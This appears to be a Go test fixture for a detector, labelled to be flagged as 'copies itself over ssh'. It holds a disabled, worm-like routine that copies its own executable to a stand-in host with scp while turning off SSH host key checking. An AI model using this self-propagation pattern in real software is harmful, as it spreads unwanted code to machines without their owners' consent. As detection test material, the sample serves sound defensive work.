/* Copies itself to every host that the user knows.
 * expect: native-copies-itself-over-ssh
 * flags: -ldflags=-s
 */
package main

import (
	"os"
	"os/exec"
)

// Never true: the code is compiled and cannot run.
var never bool

func spread(host string) {
	self, _ := os.Executable()
	exec.Command("scp", "-o", "StrictHostKeyChecking=no", self, host+":/nonexistent/x").Run()
}

func main() {
	if never {
		spread("host.example.invalid")
	}
}
